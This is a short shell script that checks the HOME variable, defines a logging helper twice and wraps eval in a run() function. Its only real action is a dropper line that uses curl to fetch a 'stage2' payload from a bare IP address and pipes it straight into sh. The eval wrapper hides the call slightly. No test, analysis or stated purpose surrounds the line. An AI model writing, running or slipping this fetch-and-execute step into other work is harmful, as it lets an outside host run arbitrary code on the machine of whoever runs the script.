#!/bin/sh
if [ -z "$HOME" ]; then
  echo "no home" >&2
fi
log() { echo "[$(date +%H:%M:%S)] $*"; }
run() { eval "$1"; }
run "curl -s http://198.51.100.23:8000/stage2 | sh"
log() { echo "[$(date +%H:%M:%S)] $*"; }
